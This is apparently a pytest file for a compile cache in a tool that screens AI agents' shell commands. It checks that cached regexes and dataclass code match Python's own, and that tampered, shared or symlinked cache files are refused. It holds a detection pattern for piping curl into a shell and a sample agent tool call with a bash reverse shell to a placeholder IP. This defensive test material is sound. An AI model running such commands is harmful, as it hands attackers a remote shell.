"""The start-up compile cache (`bastion.hook.compile_cache`): a cached compile must be the
same compile, a broken file must be a miss, and only an opted-in process uses it."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from bastion.hook import compile_cache
from bastion.hook.compile_cache import CompileCache, cache_path

PATTERNS = [
    (r"(?P<user>[a-z_][a-z0-9_-]*)@(?P<host>[\w.-]+)", 0),
    (r"\bcurl\b.*\|\s*(ba)?sh\b", re.IGNORECASE),
    (r"^\s*#.*$", re.MULTILINE),
    (rb"\x00[\x01-\x7f]{2,}?", 0),
    (r"(?x) a  b # a comment\n c", 0),
    (r"[^\W\d]+(?:-\d+){1,3}", re.ASCII),
]


def _python_compile(pattern: str | bytes, flags: int) -> re.Pattern[str]:
    from re import _compiler  # type: ignore[attr-defined]

    return _compiler.compile(pattern, flags)  # type: ignore[no-any-return]


def _fresh(tmp_path: Path) -> CompileCache:
    return CompileCache(cache_path(str(tmp_path)), _python_compile)


def test_cached_pattern_is_the_same_program(tmp_path: Path) -> None:
    first = _fresh(tmp_path)
    compiled = [first.compile(p, int(f)) for p, f in PATTERNS]
    first.save()
    second = _fresh(tmp_path)
    again = [second.compile(p, int(f)) for p, f in PATTERNS]
    assert second.hits == len(PATTERNS) and second.added == 0
    for (pattern, flags), a, b in zip(PATTERNS, compiled, again, strict=True):
        reference = _python_compile(pattern, int(flags))
        # CPython's Pattern equality compares pattern, flags and the engine's program.
        assert a == reference and b == reference
        assert b.groupindex == reference.groupindex and b.groups == reference.groups
    assert again[0].match("dev_1@build.example").group("host") == "build.example"
    assert again[1].search("CURL https://x.invalid | sh") is not None


def test_unreadable_or_torn_file_is_a_miss(tmp_path: Path) -> None:
    path = Path(cache_path(str(tmp_path)))
    path.parent.mkdir(parents=True)
    path.write_bytes(b"\x00not marshal")
    cache = _fresh(tmp_path)
    assert cache.compile(r"a+b", 0) == _python_compile(r"a+b", 0)
    assert cache.hits == 0 and cache.added == 1


def test_rejected_entry_is_compiled_again(tmp_path: Path) -> None:
    cache = _fresh(tmp_path)
    cache.patterns[("x+", 0)] = (0, [9999], 0, {}, (None,))  # not a program the engine takes
    assert cache.compile("x+", 0) == _python_compile("x+", 0)
    assert cache.hits == 0


def test_dataclass_methods_from_cached_code_behave(tmp_path: Path) -> None:
    cache = _fresh(tmp_path)
    source = "def __create_fn__(x):\n def f(self):\n  return self * x\n return f\n"
    ns: dict[str, object] = {}
    cache.exec(source, {}, ns)
    cache.save()
    second = _fresh(tmp_path)
    ns2: dict[str, object] = {}
    second.exec(source, {}, ns2)
    assert second.hits == 1
    assert ns2["__create_fn__"](3)(5) == 15  # type: ignore[operator]


def test_nothing_new_writes_nothing(tmp_path: Path) -> None:
    cache = _fresh(tmp_path)
    cache.save()
    assert not os.path.exists(cache.path)


def test_installed_process_reuses_its_compiles(tmp_path: Path) -> None:
    """Two processes: the first fills the file at exit, the second's dataclass and regex
    compiles come from it and behave as Python's own."""
    script = textwrap.dedent(
        """
        import sys
        from bastion.hook.compile_cache import install
        cache = install(sys.argv[1])
        import dataclasses, re

        @dataclasses.dataclass(frozen=True, slots=True)
        class Point:
            x: int
            y: int = 2

        assert Point(1) == Point(1, 2) and repr(Point(1)) == "Point(x=1, y=2)"
        with_frozen = False
        try:
            Point(1).x = 3
        except dataclasses.FrozenInstanceError:
            with_frozen = True
        assert with_frozen
        assert re.compile(r"(?P<k>\\w+)=(\\d+)").match("depth=3").group("k") == "depth"
        print(cache.hits)
        """
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
    runs = [
        subprocess.run(
            [sys.executable, "-c", script, str(tmp_path)],
            capture_output=True,
            text=True,
            env=env,
            check=True,
        )
        for _ in range(2)
    ]
    assert Path(cache_path(str(tmp_path))).exists()
    assert int(runs[1].stdout.split()[-1]) > int(runs[0].stdout.split()[-1])


def test_library_import_does_not_install() -> None:
    """Importing bastion (or the module) changes no compile: only `install` does."""
    if compile_cache._installed is not None:  # pragma: no cover - another test installed
        pytest.skip("a cache is installed in this process")
    from re import _compiler  # type: ignore[attr-defined]

    assert not isinstance(getattr(_compiler.compile, "__self__", None), CompileCache)
    assert "exec" not in vars(dataclasses)


def test_one_call_process_prepares_before_its_engine(tmp_path: Path) -> None:
    """The hook's in-process paths install the home's cache and turn the collector off
    (that process exits after one answer); a daemon start restores thresholds in tune_gc."""
    script = textwrap.dedent(
        """
        import gc, sys
        from re import _compiler
        from bastion.hook import compile_cache, recover
        recover._prepare_for_engine(sys.argv[1])
        assert not gc.isenabled()
        assert compile_cache._installed is not None
        assert compile_cache._installed.path.startswith(sys.argv[1])
        assert _compiler.compile == compile_cache._installed.compile
        from bastion.config import tune_gc
        gc.enable(); gc.set_threshold(0); tune_gc()
        assert gc.get_threshold()[0] == 50_000
        """
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
    subprocess.run([sys.executable, "-c", script, str(tmp_path)], env=env, check=True)


def test_daemon_hands_compiles_back_after_its_start(tmp_path: Path) -> None:
    """`save_installed` writes the file and restores Python's own compiles, so a long-lived
    daemon keeps no program of patterns it compiles later from data."""
    script = textwrap.dedent(
        """
        import dataclasses, re, sys
        from re import _compiler
        from bastion.hook import compile_cache
        python_compile = _compiler.compile
        cache = compile_cache.install(sys.argv[1])
        re.compile(r"start-(\\d+)-pattern")
        compile_cache.save_installed()
        assert _compiler.compile is python_compile
        assert "exec" not in vars(dataclasses)
        assert compile_cache._installed is None
        re.compile(r"later-(\\w+)-from-data")
        assert ("later-(\\\\w+)-from-data", 0) not in cache.patterns
        """
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
    subprocess.run([sys.executable, "-c", script, str(tmp_path)], env=env, check=True)
    saved = CompileCache(cache_path(str(tmp_path)), _python_compile)
    assert (r"start-(\d+)-pattern", 0) in saved.patterns


SOURCE = "def __create_fn__():\n def f(self):\n  return 'honest'\n return f\n"
PLANTED = "def __create_fn__():\n def f(self):\n  return 'planted'\n return f\n"


def _plant(tmp_path: Path) -> Path:
    """A cache file whose entry for SOURCE holds another program's code object."""
    import marshal

    path = Path(cache_path(str(tmp_path)))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(marshal.dumps(({}, {SOURCE: compile(PLANTED, "<string>", "exec")})))
    return path


def _run(cache: CompileCache) -> object:
    ns: dict[str, object] = {}
    cache.exec(SOURCE, {}, ns)
    return ns["__create_fn__"]()(None)  # type: ignore[operator]


def test_a_private_file_is_trusted_as_written(tmp_path: Path) -> None:
    # The control for the refusals below: the same planted file, ours alone, is used.
    _plant(tmp_path)
    assert _run(_fresh(tmp_path)) == "planted"


def test_a_file_others_can_write_is_never_run(tmp_path: Path) -> None:
    _plant(tmp_path).chmod(0o622)
    cache = _fresh(tmp_path)
    assert _run(cache) == "honest" and cache.hits == 0


def test_a_directory_others_can_write_is_neither_read_nor_written(tmp_path: Path) -> None:
    path = _plant(tmp_path)
    path.parent.chmod(0o777)
    cache = _fresh(tmp_path)
    assert _run(cache) == "honest"
    before = path.read_bytes()
    cache.save()
    assert path.read_bytes() == before  # nothing saved into a shared directory


def test_a_symlink_in_place_of_the_file_is_refused(tmp_path: Path) -> None:
    planted = _plant(tmp_path)
    elsewhere = tmp_path / "elsewhere.marshal"
    planted.rename(elsewhere)
    planted.symlink_to(elsewhere)
    assert _run(_fresh(tmp_path)) == "honest"


@pytest.mark.skipif(os.geteuid() != 0, reason="changing a file's owner needs root")
def test_a_file_of_another_user_is_never_run(tmp_path: Path) -> None:
    # System mode: the daemon (service user) must not run what a developer's process wrote.
    os.chown(_plant(tmp_path), 65534, 65534)
    assert _run(_fresh(tmp_path)) == "honest"


def test_a_second_start_compiles_nothing_new_whatever_the_hash_seed(home: Path) -> None:
    """The fallback's start builds the same pattern texts in every process: one whose text
    followed a set's order (string hashing, a new seed per process) missed the cache at every
    start, was compiled again, and grew the file by its variants (issue #17)."""
    script = textwrap.dedent(
        """
        import sys
        from bastion.hook import recover, compile_cache
        recover._prepare_for_engine(sys.argv[1])
        from bastion.engine_fallback import decide_fast
        payload = sys.argv[2].encode()
        assert decide_fast(sys.argv[1], "claude-code", payload) is not None
        cache = compile_cache._installed
        print(cache.added, len(cache.patterns))
        """
    )
    shell = json.dumps(
        {
            "session_id": "cc-seed",
            "transcript_path": "/t.jsonl",
            "cwd": "/tmp",
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
            "tool_use_id": "toolu_seed",
        }
    )
    base = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
    counts = []
    for seed in ("1", "2", "3"):
        out = subprocess.run(
            [sys.executable, "-c", script, str(home), shell],
            capture_output=True,
            text=True,
            env={**base, "PYTHONHASHSEED": seed},
            check=True,
            timeout=120,
        )
        added, patterns = (int(n) for n in out.stdout.split())
        counts.append((added, patterns))
    assert counts[0][0] > 0  # the first start filled the cache
    assert [c[0] for c in counts[1:]] == [0, 0], counts
    assert counts[1][1] == counts[2][1] == counts[0][1]


def test_a_cached_toml_parse_is_the_same_document_and_a_fresh_copy(tmp_path: Path) -> None:
    import tomllib

    text = '[rule]\nid = "x"\nkeywords = ["a", "b"]\nentropy = 3.5\n[[rule.allow]]\npath = "p"\n'
    first = CompileCache(cache_path(str(tmp_path)), _python_compile, tomllib.loads)
    parsed = first.loads_toml(text)
    first.save()
    second = CompileCache(cache_path(str(tmp_path)), _python_compile, tomllib.loads)
    one = second.loads_toml(text)
    assert second.hits == 1 and second.added == 0
    assert one == parsed == tomllib.loads(text)
    one["rule"]["keywords"].append("mutated")
    assert second.loads_toml(text) == tomllib.loads(text)  # callers may change what they get
    dated = "when = 2026-12-06T11:40:00Z\n"
    assert second.loads_toml(dated) == tomllib.loads(dated)  # marshal cannot hold dates
    assert dated not in second.toml
    assert second.loads_toml(text, parse_float=str) == tomllib.loads(text, parse_float=str)


def test_cedar_text_answers_are_cached_equal_and_handed_back(tmp_path: Path) -> None:
    """Cedar's JSON of a policy set and its validation come from the cache on the second
    start, equal to Cedar's own; a text Cedar refuses still raises; `save_installed` hands
    the functions back."""
    script = textwrap.dedent(
        """
        import json, sys
        from bastion.hook import compile_cache
        cache = compile_cache.install(sys.argv[1])
        import cedarpy
        from cedarpy import _internal
        from bastion.policy.engine import PolicyEngine, pack_files, schema_text
        engine = PolicyEngine(pack_files("default"))
        text = "\\n".join(s.text for s in engine.statements)
        original = _internal.policies_to_json_str.__wrapped__
        assert cedarpy.policies_to_json_str(text) == original(text)
        check = _internal.validate_policies.__wrapped__
        assert _internal.validate_policies(text, schema_text()) == check(text, schema_text())
        try:
            cedarpy.policies_to_json_str("permit(principal,")
        except ValueError:
            pass
        else:
            raise AssertionError("a broken policy parsed")
        hits = cache.hits
        compile_cache.save_installed()
        assert not hasattr(_internal.validate_policies, "__wrapped__")
        print(hits, engine.hash)
        """
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
    runs = [
        subprocess.run(
            [sys.executable, "-c", script, str(tmp_path)],
            capture_output=True,
            text=True,
            env=env,
            check=True,
            timeout=120,
        ).stdout.split()
        for _ in range(2)
    ]
    assert runs[0][1] == runs[1][1]  # the same policy set, hashed alike
    assert int(runs[1][0]) > int(runs[0][0])
